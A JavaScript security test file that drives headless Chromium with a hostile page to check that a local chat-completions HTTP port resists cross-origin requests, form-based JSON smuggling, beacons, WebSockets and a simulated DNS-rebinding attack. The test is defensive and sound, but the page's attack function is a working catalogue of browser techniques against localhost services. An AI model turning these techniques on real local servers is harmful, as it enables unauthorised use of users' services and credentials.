// A web page attacks the HTTP port (S3, S4, S5): a real, headless Chromium opens a page from another port and
// another name, and the page tries whatever a page can do to reach a server on localhost. Only the page's own
// server and the simulator are believed: the page reports what it could read, the simulator counts what came
// through. Skipped, loudly, where there is no Chromium; CHROMIUM names another one.

import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test as any_test } from 'node:test';
import { Home, in_time, known_token, start_simulator } from './harness.mjs';
import { open_port } from './http_port.mjs';

const CHROMIUM = process.env.CHROMIUM ?? 'chromium';
const there = spawnSync(CHROMIUM, ['--version'], { encoding: 'utf8', timeout: 60_000 });
const skip = there.status === 0 ? false : `there is no ${CHROMIUM} (Debian package chromium)`;
if (skip) console.error(`SKIPPED: ${skip}`);

const KEY = 'the-key-that-the-page-does-not-have';
const SLOW = { ms: 240_000 };

/// What the page runs. Every attack has a name and gives what it got hold of; nothing is good, an object with
/// `read` is bad. It runs in the browser: nothing of this file can be used in it.
async function attack({ targets, report }) {
  const chat = JSON.stringify({ model: 'gpt-4', messages: [{ role: 'user', content: 'stolen' }] });
  const results = [];
  const short = (promise) =>
    Promise.race([
      promise,
      new Promise((resolve) => setTimeout(() => resolve({ outcome: 'nothing came' }), 20_000)),
    ]);
  const attempt = async (name, doing) => {
    let result;
    try {
      result = await short(doing());
    } catch (error) {
      result = { outcome: String(error) };
    }
    results.push({ name, ...result });
  };
  const fetched = async (url, options) => {
    const reply = await fetch(url, options);
    if (reply.type === 'opaque') return { outcome: 'opaque' };
    return {
      outcome: `${reply.type} ${reply.status}`,
      status: reply.status,
      read: await reply.text(),
    };
  };
  const element = (name, attributes) =>
    new Promise((resolve) => {
      const one = document.createElement(name);
      one.onload = () => resolve({ outcome: 'load' });
      one.onerror = () => resolve({ outcome: 'error' });
      Object.assign(one, attributes);
      document.body.append(one);
    });
  const form = (action, enctype, fields) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = `frame-${Math.random()}`;
      document.body.append(frame);
      const one = document.createElement('form');
      Object.assign(one, { action, method: 'POST', target: frame.name, enctype });
      for (const [name, value] of Object.entries(fields)) {
        const input = document.createElement('input');
        Object.assign(input, { type: 'hidden', name, value });
        one.append(input);
      }
      document.body.append(one);
      frame.onload = () => {
        let read;
        try {
          read = frame.contentDocument?.body?.textContent || undefined;
        } catch {
          // another origin: as it should be
        }
        resolve({ outcome: 'sent', read });
      };
      one.submit();
    });

  for (const base of targets) {
    const url = `${base}/v1/chat/completions`;
    const json = { 'content-type': 'application/json' };
    await attempt(`${base} fetch, preflight`, () =>
      fetched(url, { method: 'POST', headers: json, body: chat }),
    );
    await attempt(`${base} fetch, preflight with a key`, () =>
      fetched(url, {
        method: 'POST',
        headers: { ...json, authorization: 'Bearer not-needed' },
        body: chat,
      }),
    );
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const simple = { method: 'POST', headers: { 'content-type': type }, body: chat };
      await attempt(`${base} fetch, simple, ${type}`, () => fetched(url, simple));
      await attempt(`${base} fetch, no-cors, ${type}`, () =>
        fetched(url, { ...simple, mode: 'no-cors', credentials: 'include' }),
      );
    }
    await attempt(`${base} fetch, no-cors, a blob of JSON`, () =>
      fetched(url, {
        method: 'POST',
        mode: 'no-cors',
        body: new Blob([chat], { type: 'application/json' }),
      }),
    );
    await attempt(`${base} beacon`, async () => ({
      outcome: String(navigator.sendBeacon(url, new Blob([chat], { type: 'text/plain' }))),
    }));
    for (const path of ['/v1/models', '/status', '/usage', '/metrics', '/health']) {
      await attempt(`${base} fetch GET ${path}`, () => fetched(base + path));
      await attempt(`${base} fetch GET ${path}, no-cors`, () =>
        fetched(base + path, { mode: 'no-cors' }),
      );
    }
    await attempt(
      `${base} XMLHttpRequest`,
      () =>
        new Promise((resolve) => {
          const request = new XMLHttpRequest();
          request.open('POST', url);
          request.onload = () => resolve({ outcome: 'load', read: request.responseText });
          request.onerror = () => resolve({ outcome: 'error' });
          request.send(chat);
        }),
    );
    for (const enctype of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data',
    ]) {
      // With text/plain the name and the value around the = make JSON.
      const [name, value] = [`${chat.slice(0, -1)},"x":"`, '"}'];
      await attempt(`${base} form ${enctype}`, () => form(url, enctype, { [name]: value }));
    }
    await attempt(`${base} image`, () => element('img', { src: `${base}/v1/models` }));
    await attempt(`${base} script`, () => element('script', { src: `${base}/v1/models` }));
    await attempt(`${base} style`, () =>
      element('link', { rel: 'stylesheet', href: `${base}/v1/models` }),
    );
    await attempt(`${base} frame`, () => element('iframe', { src: `${base}/v1/models` }));
    await attempt(
      `${base} WebSocket`,
      () =>
        new Promise((resolve) => {
          const socket = new WebSocket(`${base.replace('http', 'ws')}/v1/chat/completions`);
          socket.onopen = () => resolve({ outcome: 'open', read: 'a connection' });
          socket.onerror = () => resolve({ outcome: 'error' });
        }),
    );
    await attempt(
      `${base} EventSource`,
      () =>
        new Promise((resolve) => {
          const source = new EventSource(`${base}/v1/chat/completions`);
          const over = (result) => {
            source.close();
            resolve(result);
          };
          source.onopen = () => over({ outcome: 'open', read: 'a stream' });
          source.onerror = () => over({ outcome: 'error' });
        }),
    );
  }
  await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
}

/// The attacker's own web server: the page, and the place where it reports.
async function attacker() {
  let reported;
  let served;
  const server = http.createServer((req, res) => {
    res.setHeader('connection', 'close');
    if (req.url === '/report') {
      let body = '';
      req.setEncoding('utf8').on('data', (text) => (body += text));
      req.on('end', () => {
        res.end();
        reported(JSON.parse(body));
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(`<!doctype html><title>x</title><body><script>(${attack})(${server.order})</script>`);
    served?.();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  server.port = server.address().port;

  /// DNS rebinding without a name server: at another loopback address, on the port's own number, the first
  /// request gets the page and all later ones are led to the port, as after the name has moved. Neither the
  /// browser nor the port can tell the difference.
  server.rebind_to = async (port) => {
    let moved = false;
    served = () => (moved = true);
    const front = net.createServer((socket) => {
      socket.on('error', () => {});
      // A browser opens connections ahead: where one leads is decided when it is used.
      socket.once('data', (bytes) => {
        const behind = net.connect(moved ? port : server.port, '127.0.0.1');
        behind.on('error', () => socket.destroy());
        socket.on('close', () => behind.destroy());
        behind.write(bytes);
        behind.pipe(socket).pipe(behind);
      });
    });
    await new Promise((resolve, reject) => {
      front.once('error', reject);
      front.listen(port, '127.0.0.2', resolve);
    });
    return front;
  };

  /// Opens the page in a browser of its own under `name` and gives what the page reports.
  server.run = async (host, targets, rules = []) => {
    // The page may have been moved away from here, so it reports to an address.
    const report = `http://127.0.0.1:${server.port}/report`;
    server.order = JSON.stringify({ targets, report });
    const results = new Promise((resolve) => (reported = resolve));
    const profile = mkdtempSync(join(tmpdir(), 'jumpseat-browser-'));
    const words = [
      ...['--headless=new', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'],
      ...['--no-first-run', '--disable-background-networking', '--disable-component-update'],
      ...['--disable-sync', '--disable-quic', '--no-proxy-server', `--user-data-dir=${profile}`],
      // Names that lead here without a name server: what DNS rebinding does.
      `--host-resolver-rules=${[...rules, 'EXCLUDE localhost'].join(',')}`,
    ];
    const browser = spawn(CHROMIUM, [...words, `http://${host}/`], {
      env: { PATH: process.env.PATH, HOME: profile, LC_ALL: 'C.UTF-8' },
      stdio: ['ignore', 'ignore', 'pipe'],
      detached: true, // it is a family of processes
    });
    let printed = '';
    browser.stderr.setEncoding('utf8').on('data', (text) => (printed += text));
    const closed = new Promise((resolve) => browser.once('close', resolve));
    const end = () => {
      try {
        process.kill(-browser.pid, 'SIGKILL');
      } catch {
        // it has ended
      }
    };
    process.once('exit', end);
    try {
      return await in_time(results, "the page's report", {
        ...SLOW,
        seen: () => printed.slice(-2000),
      });
    } finally {
      end();
      await closed;
      process.removeListener('exit', end);
      rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
    }
  };
  return server;
}

const test = (name, run) => any_test(name, { skip }, run); // each one is counted

describe('S4, S5: a web page', () => {
  let sim;
  let page;
  let open;
  let locked;
  before(async () => {
    if (skip) return;
    sim = await start_simulator();
    const home = new Home();
    const env = home.env(sim.env, { GITHUB_TOKEN: await known_token(sim) });
    [open, locked] = await Promise.all([
      open_port({ env, cwd: home.work }),
      open_port({ env: { ...env, JUMPSEAT_API_KEY: KEY }, cwd: home.work }),
    ]);
    page = await attacker();
    // The ports are alive and serve a program; from here on nothing may reach upstream.
    for (const port of [open, locked]) {
      const reply = await port.chat({}, { headers: { authorization: `Bearer ${KEY}` } });
      assert.equal(reply.status, 200, reply.text);
    }
  });
  after(async () => {
    page?.close();
    page?.closeAllConnections();
    await open?.stop();
    await locked?.stop();
    await sim?.stop();
  });

  /// Lets the page at `host` attack and checks that upstream heard nothing of it.
  async function attacked(host, targets, rules) {
    const seen = (await sim.requests()).length;
    const results = await page.run(host, targets, rules);
    assert.ok(results.length >= 25 * targets.length, `${results.length} attacks`);
    const heard = (await sim.requests()).slice(seen);
    assert.deepEqual(
      heard.map((one) => `${one.method} ${one.path}`),
      [],
      'upstream was called',
    );
    return results;
  }

  function read_nothing(results) {
    for (const { name, read, outcome } of results)
      assert.equal(read, undefined, `${name}: ${outcome}: ${read}`);
  }

  test('of another port reads nothing and costs nothing', async () => {
    for (const port of [open, locked]) {
      const names = ['localhost', '127.0.0.1', '[::1]'];
      const targets = names.map((name) => `http://${name}:${port.port}`);
      read_nothing(await attacked(`localhost:${page.port}`, targets));
    }
  });

  test('of a foreign site reads nothing and costs nothing', async () => {
    const targets = [`http://localhost:${open.port}`, `http://127.0.0.1:${open.port}`];
    const rules = ['MAP foreign.example 127.0.0.1'];
    read_nothing(await attacked(`foreign.example:${page.port}`, targets, rules));
  });

  test('S3: that moves its own name to the port reads refusals and costs nothing', async () => {
    const front = await page.rebind_to(open.port);
    try {
      const host = `rebound.example:${open.port}`;
      const rules = ['MAP rebound.example 127.0.0.2'];
      const results = await attacked(host, [`http://${host}`], rules);
      // To the browser it is the page's own server, so whatever is answered can be read.
      const answers = results.filter((one) => one.read !== undefined);
      assert.ok(answers.length >= 10, JSON.stringify(results, null, 1));
      for (const { name, read } of answers) assert.match(read, /"code":"client_refused"/, name);
      assert.ok(answers.every((one) => one.status === undefined || one.status === 403));
    } finally {
      front.close();
    }
  });
});
